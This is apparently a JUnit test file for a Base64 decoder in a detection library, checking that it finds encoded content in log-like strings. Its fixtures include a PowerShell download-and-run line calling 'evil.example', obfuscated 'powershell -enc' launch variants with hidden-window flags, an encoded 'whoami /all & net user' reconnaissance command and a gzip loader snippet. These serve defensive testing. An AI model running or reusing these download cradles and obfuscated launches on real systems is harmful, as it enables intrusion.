package dev.spoor.decoder.base64;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.spoor.api.Piece;
import dev.spoor.api.Span;
import dev.spoor.tck.MemoryPieces;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class Base64DecoderTest {
    private static final String SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String wide(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_16LE));
    }

    private static List<String> texts(String cell) throws Exception {
        List<MemoryPieces.Found> found = TestData.decode(cell);
        assertTrue(found.isEmpty() || TestData.probe(cell) > 0, "the probe misses " + cell);
        return found.stream()
                .map(one -> one.form().equals(Piece.TEXT) ? one.text() : one.form() + " " + one.bytes().length)
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "powershell -enc %s",
                "powershell.exe -NoP -W Hidden -EncodedCommand %s",
                "pwsh -e %s",
                "powershell -en %s -nop",
                "powershell /ENCO %s",
                "powershell -ec \"%s\"",
                "powershell -e^nc^odedcommand '%s'",
                "powershell \u2013enc %s",
                "powershell -enc:%s",
                "cmd /c start /b powershell -EncodedCommand    %s & exit"
            })
    void encodedCommandsUnderAllTheirNames(String pattern) throws Exception {
        assertEquals(List.of(SCRIPT), texts(pattern.replace("%s", wide(SCRIPT))));
        assertEquals(List.of("dir C:\\"), texts(pattern.replace("%s", wide("dir C:\\"))));
        assertEquals(
                List.of("echo \u041f\u0440\u0438\u0432\u0435\u0442 $env:COMPUTERNAME"),
                texts(pattern.replace("%s", wide("echo \u041f\u0440\u0438\u0432\u0435\u0442 $env:COMPUTERNAME"))));
        assertEquals(
                "encoded command",
                TestData.decode(pattern.replace("%s", wide(SCRIPT))).get(0).name());
    }

    @Test
    void severalInOneCellEachWithItsPlace() throws Exception {
        String a = base64("first secret message");
        String b = base64("second, \u00fcber-secret one?>");
        String cell = "a=" + a + "; b='" + b + "'.";
        List<MemoryPieces.Found> found = TestData.decode(cell);
        assertEquals(2, found.size());
        assertEquals(new Span(2, 2 + a.length()), found.get(0).from());
        int second = cell.indexOf(b);
        assertEquals(new Span(second, second + b.length()), found.get(1).from());
        assertEquals("second, \u00fcber-secret one?>", found.get(1).text());
    }

    @Test
    void urlSafeUnpaddedAndWrapped() throws Exception {
        String text = "subjects?_d=1&x=~~~???>>> and so on";
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        assertEquals(
                List.of(text), texts(Base64.getUrlEncoder().withoutPadding().encodeToString(bytes)));
        assertEquals(
                List.of(text), texts("q=" + Base64.getEncoder().withoutPadding().encodeToString(bytes)));
        String longText =
                "All work and no play makes Jack a dull boy. ".repeat(20).strip();
        String mime = Base64.getMimeEncoder().encodeToString(longText.getBytes(StandardCharsets.UTF_8));
        assertEquals(List.of(longText), texts(mime));
        assertEquals(List.of(longText), texts(mime.replace("\r\n", "\\r\\n")));
        assertEquals(List.of(longText), texts(mime.replace("\r\n", "\n    ")));
        assertEquals(List.of(longText), texts("-----BEGIN X-----\n" + mime + "\n-----END X-----"));
        assertEquals(List.of(longText), texts("Message:\n" + mime.replace("=", "") + "\nThis was the message\n"));
        assertEquals(
                List.of("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", "{\"sub\":\"1234567890\",\"name\":\"John Doe\"}"),
                texts("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0"));
    }

    @Test
    void behindPathsAndEscapes() throws Exception {
        String hidden = base64("whoami /all & net user");
        assertEquals(List.of("whoami /all & net user"), texts("GET /cgi-bin/" + hidden + " HTTP/1.1"));
        assertEquals(List.of("whoami /all & net user"), texts("line\\n" + hidden + "\\n"));
        assertEquals(List.of("whoami /all & net user"), texts("https://a.example/x-y_z/" + hidden));
    }

    @Test
    void knownFormsStayBytes() throws Exception {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(SCRIPT.getBytes(StandardCharsets.UTF_8));
        }
        String cell = "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\""
                + Base64.getEncoder().encodeToString(packed.toByteArray()) + "\"));";
        MemoryPieces.Found found = TestData.decode(cell).get(0);
        assertEquals(Piece.BYTES, found.form());
        assertArrayEquals(packed.toByteArray(), found.bytes());
        assertEquals(
                List.of("bytes 64"),
                texts("x TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA8AAAAA"));
    }

    @Test
    void whatIsDeclaredIsTakenAsItIs() throws Exception {
        String noise = Base64.getEncoder().encodeToString(new byte[] {1, -2, 3, -4, 5, -6, 7, -8, 9, -10, 11, -12, 13});
        assertEquals(List.of(), texts("token " + noise));
        assertEquals(List.of("bytes 13"), texts("[Convert]::FromBase64String('" + noise + "')"));
        assertEquals(List.of("bytes 13"), texts("src=\"data:application/octet-stream;base64," + noise + "\""));
        assertEquals(List.of("bytes 13"), texts("echo " + noise + " | base64 -d > /tmp/x"));
        assertEquals(
                List.of("bytes 13"),
                texts("-----BEGIN CERTIFICATE-----\r\n" + noise + "\r\n-----END CERTIFICATE-----"));
        assertEquals(List.of(), texts("cat AboutThisFileName | base64 > x"));
        assertEquals(List.of(), texts("FromBase64String(EncodedPayloadText)"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "d41d8cd98f00b204e9800998ecf8427e",
                "D41D8CD98F00B204E9800998ECF8427E",
                "SHA256=F220627FD3D120EBB22FE90FB2D321933F1374EA459B769DEEAC06A82F4FA9C0",
                "{6F9619FF-8b86-D011-b42d-00CF4fc964FF}",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "/usr/lib/x86_64-linux-gnu/ImageMagick-6.9.11/modules-Q16/coders",
                "S-1-5-21-3940915590-64593676-1414006259-500",
                "Microsoft-Windows-Security-Auditing/Operational",
                "NtCreateThreadExWithImpersonation GetModuleFileNameExtended",
                "https://www.example.com/Account/ForgotPassword/ResetPasswordConfirmation",
                "org.springframework.beans.factory.support.DefaultListableBeanFactory",
                "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                "arn:aws:iam::123456789012:user/AKIAIOSFODNN7EXAMPLE",
                "ssh-ed25519 AAAA",
                ""
            })
    void namesPathsAndDigestsAreNone(String cell) throws Exception {
        assertEquals(List.of(), texts(cell));
    }

    @Test
    void randomBytesAreNoneAndRandomTextIsFound() throws Exception {
        Random random = new Random(7);
        int wrong = 0;
        for (int i = 0; i < 20_000; i++) {
            byte[] bytes = new byte[15 + random.nextInt(60)];
            random.nextBytes(bytes);
            wrong += TestData.decode("id=" + Base64.getEncoder().encodeToString(bytes))
                    .size();
            StringBuilder words = new StringBuilder();
            while (words.length() < 16 + i % 80) {
                words.append((char) ('a' + random.nextInt(26))).append(random.nextInt(5) == 0 ? " " : "");
            }
            assertEquals(List.of(words.toString()), texts("\"" + base64(words.toString()) + "\""));
        }
        assertTrue(wrong <= 2, wrong + " of 20,000 random values taken for text");
    }

    @Test
    void anyTextIsAnsweredWithPlacesInOrder() throws Exception {
        for (String part : List.of(
                "aA-",
                "A/",
                "aB3_",
                "\n",
                wide("dir").repeat(3) + "\n",
                base64("x".repeat(45)) + "A\n",
                "-enc ",
                "=",
                "\\n")) {
            String small = part.repeat((1 << 19) / part.length());
            assertInOrder(small);
        }
        byte[] noise = new byte[1 << 16];
        new Random(3).nextBytes(noise);
        for (int i = 0; i < noise.length; i++) {
            noise[i] = i % 3 == 0 ? noise[i] : (byte) "ABCdef012+/-_=\\n '\"".charAt(Math.floorMod(noise[i], 18));
        }
        assertInOrder(new String(noise, StandardCharsets.ISO_8859_1));
    }

    private static void assertInOrder(String text) throws Exception {
        int score = TestData.probe(text);
        assertTrue(score >= 0 && score <= 100);
        long end = 0;
        for (MemoryPieces.Found one : TestData.decode(text)) {
            assertTrue(one.from().from() >= end && one.from().to() > one.from().from());
            end = one.from().to();
        }
        assertTrue(end <= text.getBytes(StandardCharsets.UTF_8).length);
    }
}
